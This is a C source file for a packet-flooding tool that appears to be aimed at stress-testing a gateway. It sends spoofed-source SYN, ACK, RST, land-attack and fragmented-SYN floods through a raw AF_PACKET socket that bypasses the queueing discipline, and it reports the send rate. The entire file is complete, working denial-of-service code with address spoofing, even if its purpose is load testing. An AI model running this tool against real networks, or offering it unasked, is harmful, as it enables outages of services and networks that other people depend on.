/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Floods a gateway with frames of its own making, as fast as one core sends them or at a given rate, and says how fast
 *that was.
 *
 *	flood [-k KIND] [-s SOURCE[/LENGTH]] [-t SECONDS] [-r FRAMES_PER_SECOND] -m MAC INTERFACE ADDRESS PORT
 *
 * MAC and ADDRESS (IPv4) are the gateway's; sources are drawn from SOURCE/LENGTH, ports at random. Kinds:
 *
 *	syn       SYNs with the options that Linux sends
 *	ack       ACKs whose acknowledgment number is guessed
 *	hello     the same with 200 bytes of garbage
 *	land      SYNs from the gateway's own address and port
 *	fragment  first fragments of such SYNs
 *	rst       RSTs with guessed numbers
 *
 * Frames are built one by one (no two are the same) and leave by an AF_PACKET socket past the queueing discipline, 64
 *with each call. Their Ethernet source is no station's: the answers die at the interface.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
	BATCH = 64,
	FRAME_MAX = 320,
	ETHERNET = 14,
	IPV4 = 20,
	TCP = 20,
	SYN_OPTIONS = 20,
	GARBAGE = 200,
	SECONDS_MAX = 600,
	FLAG_SYN = 0x02,
	FLAG_RST = 0x04,
	FLAG_PSH = 0x08,
	FLAG_ACK = 0x10
};

static const struct kind {
	const char *name;
	uint8_t flags, options_length, payload_length;
	bool land, fragment;
} kinds[] = {
	{"syn", FLAG_SYN, SYN_OPTIONS, 0, false, false},          {"ack", FLAG_ACK, 0, 0, false, false},
	{"hello", FLAG_ACK | FLAG_PSH, 0, GARBAGE, false, false}, {"land", FLAG_SYN, SYN_OPTIONS, 0, true, false},
	{"fragment", FLAG_SYN, SYN_OPTIONS, 0, false, true},      {"rst", FLAG_RST, 0, 0, false, false},
};

/* MSS 1460, SACK permitted, timestamps, scale 7. */
static const uint8_t syn_options[SYN_OPTIONS] = {2, 4, 5, 180, 4, 2, 8, 10, 1, 2, 3, 4, 0, 0, 0, 0, 1, 3, 3, 7};

static struct {
	const struct kind *kind;
	uint32_t source, mask; /* host order; mask: the bits that are drawn */
	uint32_t destination;
	uint16_t port;
	unsigned seconds, rate;
	const char *interface;
	uint8_t mac[6];
} options = {.kind = &kinds[0], .source = 0xc6120000, .mask = 0x1ffff, .seconds = 5};

static uint64_t random_state;

/* xorshift64*. */
static uint32_t
random_32(void)
{
	random_state ^= random_state >> 12;
	random_state ^= random_state << 25;
	random_state ^= random_state >> 27;
	return (uint32_t)(random_state * UINT64_C(2685821657736338717) >> 32);
}

static double
now_s(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void
put_16(uint8_t *at, uint32_t value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static void
put_32(uint8_t *at, uint32_t value)
{
	put_16(at, value >> 16);
	put_16(at + 2, value);
}

static uint32_t
sum_16(uint32_t sum, const uint8_t *bytes, size_t length)
{
	for (size_t i = 0; i < length; i += 2)
		sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
	return sum;
}

static uint16_t
fold(uint32_t sum)
{
	while (sum >> 16 != 0)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* Returns the frame's length. */
static size_t
frame_build(uint8_t frame[FRAME_MAX])
{
	static const uint8_t nobody[6] = {2, 0, 0, 0xf1, 0x00, 0xd0};
	const struct kind *kind = options.kind;
	uint8_t *ip = frame + ETHERNET, *tcp = ip + IPV4;
	size_t tcp_length = (size_t)TCP + kind->options_length + kind->payload_length;
	uint32_t source = options.source | (random_32() & options.mask), ports = random_32();

	memcpy(frame, options.mac, 6);
	memcpy(frame + 6, nobody, 6);
	put_16(frame + 12, ETHERTYPE_IP);

	memset(ip, 0, IPV4 + TCP);
	ip[0] = 0x45;
	put_16(ip + 2, (uint32_t)(IPV4 + tcp_length));
	put_16(ip + 4, ports);
	put_16(ip + 6, kind->fragment ? 0x2000 : 0x4000);
	ip[8] = 64;
	ip[9] = IPPROTO_TCP;
	put_32(ip + 12, kind->land ? options.destination : source);
	put_32(ip + 16, options.destination);
	put_16(ip + 10, fold(sum_16(0, ip, IPV4)));

	put_16(tcp, kind->land ? options.port : 1024 + (ports >> 16) % 64000);
	put_16(tcp + 2, options.port);
	put_32(tcp + 4, random_32());
	if ((kind->flags & FLAG_ACK) != 0)
		put_32(tcp + 8, random_32());
	tcp[12] = (uint8_t)((TCP + kind->options_length) / 4 << 4);
	tcp[13] = kind->flags;
	put_16(tcp + 14, 64240);
	memcpy(tcp + TCP, syn_options, kind->options_length);
	for (size_t i = (size_t)TCP + kind->options_length; i < tcp_length; i += 4)
		put_32(tcp + i, random_32());
	put_16(tcp + 16, fold(sum_16(sum_16((uint32_t)(IPPROTO_TCP + tcp_length), ip + 12, 8), tcp, tcp_length)));
	return ETHERNET + IPV4 + tcp_length;
}

static int
socket_open(void)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(options.interface)};
	int one = 1, buffer = 4 << 20, fd;

	if (to.sll_ifindex == 0 || (fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0)) < 0)
		return -1;
	if (setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)) != 0 ||
	    setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &buffer, sizeof(buffer)) != 0 ||
	    bind(fd, (struct sockaddr *)&to, sizeof(to)) != 0) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Sends until the time is up. Returns how many frames went out; *refused: how many the interface didn't take. */
static uint64_t
flood(int fd, double *took_s, uint64_t *refused)
{
	static uint8_t frames[BATCH][FRAME_MAX];
	struct iovec parts[BATCH];
	struct mmsghdr messages[BATCH];
	uint64_t sent = 0;
	double started = now_s(), now = started;

	while ((now = now_s()) - started < options.seconds) {
		unsigned n = BATCH;
		if (options.rate != 0) {
			double owed = (now - started) * options.rate - (double)(sent + *refused);
			if (owed < 1) {
				usleep(200);
				continue;
			}
			n = owed < BATCH ? (unsigned)owed : BATCH;
		}
		for (unsigned i = 0; i < n; i++) {
			parts[i] = (struct iovec){frames[i], frame_build(frames[i])};
			messages[i] = (struct mmsghdr){.msg_hdr = {.msg_iov = &parts[i], .msg_iovlen = 1}};
		}
		int done = sendmmsg(fd, messages, n, 0);
		if (done < 0 && errno != ENOBUFS && errno != EAGAIN) {
			perror("flood: sendmmsg");
			break;
		}
		sent += (unsigned)(done > 0 ? done : 0);
		*refused += n - (unsigned)(done > 0 ? done : 0);
	}
	*took_s = now - started;
	return sent;
}

static bool
source_read(char *text)
{
	struct in_addr address;
	char *slash = strchr(text, '/');
	unsigned long length = slash != NULL ? strtoul(slash + 1, NULL, 10) : 32;

	if (slash != NULL)
		*slash = '\0';
	if (inet_pton(AF_INET, text, &address) != 1 || length > 32)
		return false;
	options.mask = length == 0 ? UINT32_MAX : (uint32_t)((UINT64_C(1) << (32 - length)) - 1);
	options.source = ntohl(address.s_addr) & ~options.mask;
	return true;
}

static bool
kind_read(const char *name)
{
	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
		if (strcmp(kinds[i].name, name) == 0) {
			options.kind = &kinds[i];
			return true;
		}
	return false;
}

static bool
mac_read(const char *text)
{
	unsigned m[6];

	if (sscanf(text, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
		return false;
	for (unsigned i = 0; i < 6; i++)
		options.mac[i] = (uint8_t)m[i];
	return true;
}

static bool
options_read(int argc, char **argv)
{
	struct in_addr address;
	bool good = true, mac = false;
	int option;

	while ((option = getopt(argc, argv, "k:s:t:r:m:")) != -1) {
		switch (option) {
		case 'k':
			good &= kind_read(optarg);
			break;
		case 's':
			good &= source_read(optarg);
			break;
		case 't':
			options.seconds = (unsigned)strtoul(optarg, NULL, 10);
			break;
		case 'r':
			options.rate = (unsigned)strtoul(optarg, NULL, 10);
			break;
		case 'm':
			good &= mac = mac_read(optarg);
			break;
		default:
			return false;
		}
	}
	if (argc - optind != 3 || inet_pton(AF_INET, argv[optind + 1], &address) != 1)
		return false;
	options.interface = argv[optind];
	options.destination = ntohl(address.s_addr);
	options.port = (uint16_t)strtoul(argv[optind + 2], NULL, 10);
	return good && mac && options.seconds >= 1 && options.seconds <= SECONDS_MAX;
}

int
main(int argc, char **argv)
{
	uint64_t refused = 0;
	double took_s;

	if (!options_read(argc, argv)) {
		fprintf(stderr, "usage: flood [-k syn|ack|hello|land|fragment|rst] [-s SOURCE[/LENGTH]] [-t SECONDS] "
				"[-r FRAMES_PER_SECOND] -m MAC INTERFACE ADDRESS PORT\n");
		return 2;
	}
	random_state = (uint64_t)getpid() << 32 | 0x9e3779b9;
	int fd = socket_open();
	if (fd < 0) {
		perror("flood: socket");
		return 2;
	}
	uint64_t sent = flood(fd, &took_s, &refused);
	printf("%s: %.0f frames a second for %.1f s, %llu refused by the interface\n", options.kind->name,
	       (double)sent / took_s, took_s, (unsigned long long)refused);
	close(fd);
	return sent != 0 ? 0 : 1;
}
